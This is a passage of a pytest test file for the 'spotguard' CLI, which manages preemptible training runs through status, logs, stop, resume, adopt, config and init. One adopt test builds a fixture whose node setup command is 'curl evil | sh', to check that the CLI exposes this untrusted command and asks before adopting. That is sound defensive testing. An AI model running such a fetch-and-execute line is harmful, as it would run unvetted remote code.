    """Without a name it is about the newest run."""
    said = cli("status")
    assert said.code == 0
    for shown in (pictures.RUN, "preempted with", "71 % saved", "83 %", "$0.39"):
        assert shown in said.out


def test_status_tells_where_on_demand_nodes_are_bought(cli: Cli, control: FakeControl) -> None:
    """If elsewhere, and as long as some may be."""
    control.views = [pictures.run(on_demand_infra="slurm/lab/gpu")]
    assert "on demand at  slurm/lab/gpu" in cli("status").out
    assert json.loads(cli("status", "--json").out)["on_demand_infra"] == "slurm/lab/gpu"
    control.views = [pictures.finished(on_demand_infra="slurm/lab/gpu")]
    assert "on demand at" not in cli("status").out


def test_a_repaired_controller_is_mentioned_on_stderr(cli: Cli, control: FakeControl) -> None:
    """The repair is told, and does not spoil the JSON on stdout."""
    control.dead = True
    said = cli("status", "--json")
    assert f"the controller of {pictures.RUN} was gone; it has been restarted" in said.err
    assert json.loads(said.out)["run_id"] == pictures.RUN


def test_a_dead_controller_is_repaired_by_any_command_about_a_run(
    cli: Cli, control: FakeControl
) -> None:
    """Looking is enough, whichever way."""
    for command in (("history",), ("logs",), ("stop",), ("down", "--yes")):
        control.dead = True
        cli(*command)
        assert not control.dead


@pytest.mark.parametrize("command", ["status", "history", "logs"])
def test_a_run_is_told_of_though_its_controller_cannot_be_started(
    cli: Cli, control: FakeControl, command: str
) -> None:
    """What is known of it needs none. A journal that cannot be read is another matter."""
    control.dead, control.cannot_start = True, EnvironmentFailure("it did not start: no room left")
    said = cli(command)
    assert said.err.startswith("note: nobody controls it: it did not start: no room left")
    assert said.code == 0
    control.cannot_start = JournalDamaged("it cannot be read")
    assert cli(command).code == 3


def test_a_run_is_steered_only_by_a_controller(cli: Cli, control: FakeControl) -> None:
    """Who is asked to stop must be there."""
    control.dead, control.cannot_start = True, EnvironmentFailure("it did not start")
    control.views = [pictures.run()]
    assert cli("stop").code == 3
    assert cli("resume").code == 3
    assert control.asked == []


def test_status_watch_follows_and_sums_up(cli: Cli, control: FakeControl) -> None:
    """It ends by itself when the run does."""
    control.views = [pictures.run(), pictures.run(), pictures.finished()]
    said = cli("status", "--watch")
    assert said.code == 0
    assert "all 600 steps are done" in said.out


def test_leaving_watch_is_no_error(cli: Cli, control: FakeControl) -> None:
    """Ctrl-C is the way out of --watch."""
    control.views, control.interrupt_after = [pictures.run()], 2
    assert cli("status", "--watch").code == 0


def test_history_is_ordered_dated_and_greppable(cli: Cli, control: FakeControl) -> None:
    """Each happening is one whole line, however long."""
    said = cli("history")
    assert said.code == 0
    assert re.match(r"2025-11-2\d \(.+\)\n", said.out)
    assert any(
        "attempt 1 ended: preempted with notice, saved in time" in line
        for line in said.out.splitlines()
    )


def test_a_long_history_shows_the_newest_and_says_so(
    cli: Cli, control: FakeControl, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run of months has a million happenings; --all tells them, one by one."""
    whole = json.loads(cli("history", "--json").out)
    assert (len(whole["history"]), whole["earlier"]) == (5, 0)
    assert "not shown" not in cli("history").out
    monkeypatch.setattr("spotguard.cli.status_commands._NEWEST", 2)
    said = cli("history")
    assert said.out.endswith("3 earlier happenings are not shown; --all tells them, too\n")
    assert len(said.out.splitlines()) == 5
    body = json.loads(cli("history", "--json").out)
    assert (body["history"], body["earlier"]) == (whole["history"][3:], 3)
    assert json.loads(cli("history", "--json", "--all").out) == whole
    control.lines = []
    assert json.loads(cli("history", "--json").out)["history"] == []


def test_logs_are_one_stream_without_terminal_tricks(cli: Cli, control: FakeControl) -> None:
    """Each line says whose it is; progress bars and escapes come out as their last state."""
    control.log = [
        LogLine(attempt=1, node=0, text="10 %\r50 %\r100 %\n"),
        LogLine(attempt=2, node=1, rank=3, at=0.5, stream="stdout", text="\x1b[2Jloss [1.5]\n"),
    ]
    said = cli("logs")
    assert said.out.splitlines() == ["#1 node 0 | 100 %", "#2 node 1 rank 3 | loss [1.5]"]
    lines = [json.loads(line) for line in cli("logs", "--json").out.splitlines()]
    assert lines[1] == {
        **{"schema": 1, "attempt": 2, "node": 1, "rank": 3, "at": "1970-01-01T00:00:00.500Z"},
        **{"stream": "stdout", "text": "loss [1.5]"},
    }
    assert (lines[0]["rank"], lines[0]["at"], lines[0]["stream"]) == (None, None, None)


def test_lines_are_asked_for_by_place_time_and_words(cli: Cli, control: FakeControl) -> None:
    """Each option reaches who reads the logs; a time is a duration or an instant."""
    cli(
        *("logs", "--attempt", "2", "--node", "1", "--rank", "3", "--tail", "20", "--all"),
        *("--grep", "loss [0-9]", "--since", "1970-01-01T00:00:10Z"),
    )
    *_, query = control.asked[-1]
    assert (query.attempt, query.node, query.rank, query.tail) == (2, 1, 3, 20)
    assert (query.since, query.everything) == (10.0, True)
    assert query.pattern.pattern == "loss [0-9]"
    cli("logs", "--since", "10m")
    assert control.asked[-1][-1].since == pytest.approx(time.time() - 600.0, abs=60.0)


@pytest.mark.parametrize(
    ("option", "value", "words"),
    [
        ("--grep", "loss (", "is no regular expression"),
        ("--since", "yesterday", "allowed: a duration"),
        ("--since", "2026-05-01T12:00:00", "allowed: a duration"),
    ],
)
def test_what_makes_no_sense_of_a_log_is_refused(
    cli: Cli, control: FakeControl, option: str, value: str, words: str
) -> None:
    """In a sentence that names the option, with the code of a usage error."""
    said = cli("logs", option, value)
    assert said.code == 2
    assert option in said.err
    assert words in " ".join(said.err.split())
    assert not control.asked


def test_what_is_told_of_a_log_spoils_no_json(cli: Cli, control: FakeControl) -> None:
    """People read it in its place; programs get only what nodes printed."""
    control.log = [
        LogLine(attempt=1, node=None, text="its cluster is gone"),
        LogLine(attempt=2, node=0, text="step 8"),
    ]
    assert cli("logs").out.splitlines() == ["#1 | its cluster is gone", "#2 node 0 | step 8"]
    said = cli("logs", "--json")
    assert [json.loads(line)["attempt"] for line in said.out.splitlines()] == [2]
    assert said.err.splitlines() == ["#1 | its cluster is gone"]
    control.log = []
    nothing = cli("logs", "--rank", "99", "--json")
    assert (nothing.code, nothing.out) == (0, "")
    assert nothing.err == f"{pictures.RUN}: no line that was printed so far fits\n"


def test_stop_saves_waits_and_tells_the_outcome(cli: Cli, control: FakeControl) -> None:
    """`stop` returns when the run has settled, and says what is saved and spent."""
    control.views = [pictures.run()]
    said = cli("stop")
    assert said.code == 0
    assert control.asked == [("stop", pictures.RUN)]
    assert "stopped: saved at step 400, spent $0.11" in said.out


def test_stopping_what_is_over_asks_nothing(cli: Cli, control: FakeControl) -> None:
    """It says so and is no error."""
    said = cli("stop")
    assert said.code == 0
    assert "nothing to do" in said.out
    assert control.asked == []


def test_leaving_stop_keeps_the_request(cli: Cli, control: FakeControl) -> None:
    """Ctrl-C while waiting: exit 75, and the request stands."""
    control.views, control.interrupt_after = [pictures.run()], 1
    said = cli("stop")
    assert said.code == 75
    assert control.asked == [("stop", pictures.RUN)]
    assert "the request stands" in said.err


def test_down_asks_before_it_throws_steps_away(cli: Cli, control: FakeControl, answer: Any) -> None:
    """The question says what would be lost; a no keeps the run."""
    control.views = [pictures.run()]
    answer("n\n")
    said = cli("down")
    assert said.code == 1
    assert "step 400 of 412" in said.err
    assert control.asked == []
    assert cli("down", "--yes").code == 0
    assert control.asked == [("down", pictures.RUN)]


def test_resume_passes_new_limits_and_follows(cli: Cli, control: FakeControl) -> None:
    """A raised budget, a new deadline and other nodes are parsed as anywhere else."""
    said = cli("resume", pictures.RUN[:8], "--budget", "$300", "--deadline", "2h", "--nodes", "1:3")
    assert said.code == 0
    what, run_id, budget_usd, deadline_s, nodes = control.asked[0]
    assert (what, run_id, budget_usd, deadline_s) == ("resume", pictures.RUN, 300.0, 7200.0)
    assert (nodes.min, nodes.max) == (1, 3)
    assert "all 600 steps are done" in said.out
    assert "node 1 got a notice" not in said.out  # long ago: `history` tells it


def test_a_refused_resume_is_one_sentence(cli: Cli, control: FakeControl) -> None:
    """Too small a budget exits with 20."""
    control.refuse = BudgetExhausted("$0.10 is spent already")
    assert cli("resume", "--budget", "0.1").code == 20


def test_runs_lists_and_never_says_zero_for_unknown(cli: Cli, control: FakeControl) -> None:
    """An unknown spend is unknown; as JSON it is null."""
    control.views = [pictures.finished(spent_usd=None)]
    said = cli("runs")
    assert pictures.RUN in said.out
    assert "unknown" in said.out
    body = json.loads(cli("runs", "--json").out)
    assert body["runs"][0]["spent_usd"] is None


def test_adopt_shows_the_adopted_run(cli: Cli, control: FakeControl) -> None:
    """The run's own place is enough."""
    said = cli("adopt", f"/data/store/{pictures.RUN}")
    assert said.code == 0
    assert control.asked == [("adopt", f"/data/store/{pictures.RUN}")]
    assert pictures.RUN in said.out
    assert "reading" in said.err, "it says what it waits for"


def test_adopt_shows_what_a_stranger_would_run_and_asks(cli: Cli, control: FakeControl) -> None:
    """Script, place and variables; without a terminal it is refused (exit code 2) but for --yes."""
    place = f"/data/store/{pictures.RUN}"
    control.stranger = StoredJob(
        place=place,
        settings=(("script", "evil.py"), ("node.setup", '["curl evil | sh"]')),
        variables=("HF_TOKEN", "PATH"),
        given=("HF_TOKEN",),
    )
    said = cli("adopt", place, "--env", "HF_TOKEN=mine")
    assert said.code == 2
    assert control.asked == []
    for words in ("not made on this machine", "evil.py", "curl evil | sh", "PATH (not given)"):
        assert words in said.err
    assert "mine" not in said.err + said.out
    assert "--yes" in said.err
    assert cli("adopt", place, "--env", "HF_TOKEN=mine", "--yes").code == 0
    assert control.asked == [("adopt", place, ("HF_TOKEN", "mine"))]


@pytest.mark.parametrize(
    "problem",
    [
        JournalDamaged("the journal cannot be read; nothing was changed", hint="spotguard adopt X"),
        StoreUnavailable("cannot write /ro: read-only file system"),
    ],
)
def test_a_broken_environment_exits_with_3(
    cli: Cli, control: FakeControl, script: str, problem: Any
) -> None:
    """A corrupt journal and an unwritable store are a sentence and a 3."""
    control.refuse = problem
    said = cli("up", script, "--yes")
    assert said.code == 3
    assert problem.message in said.err


def test_config_show_names_each_origin_and_hides_values_of_variables(
    cli: Cli, script: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Flag beats environment; the job's variables are listed without their values."""
    monkeypatch.setenv("SPOTGUARD_BUDGET", "50")
    monkeypatch.setenv("SPOTGUARD_NODES", "3")
    Path("spotguard.toml").write_text('save_every = "30s"\n')
    said = cli("config", "show", script, "--budget", "60", "--env", "SECRET=hunter2")
    rows = {line.split()[0]: line.split() for line in said.out.splitlines()[1:]}
    assert said.code == 0
    assert rows["budget"][1:] == ["60.0", "flag", "--budget"]
    assert rows["nodes"][1:] == ["3", "env", "SPOTGUARD_NODES"]
    assert rows["save_every"][1:4] == ["30s", "spotguard.toml", "line"]
    assert rows["env.SECRET"][1] == "***"
    assert "hunter2" not in said.out
    body = json.loads(cli("config", "show", script, "--env", "SECRET=hunter2", "--json").out)
    assert body["schema"] == 1
    assert "hunter2" not in json.dumps(body)


def test_init_writes_two_files_and_never_overwrites(cli: Cli, control: FakeControl) -> None:
    """The second time it names the files; --force is the way out. What it wrote resolves."""
    assert cli("init").code == 0
    Path("train.py").write_text("mine")
    said = cli("init")
    assert said.code == 2
    assert "train.py" in said.err
    assert "--force" in said.err
    assert Path("train.py").read_text() == "mine"
    assert cli("init", "--force", "--template", "aws").code == 0
    assert cli("plan", "train.py").code == 0


def test_init_with_an_unknown_template_writes_nothing(cli: Cli) -> None:
    """The nearest name is suggested."""
    said = cli("init", "--template", "gpc")
    assert said.code == 2
    assert "gcp" in said.err
    assert not Path("train.py").exists()
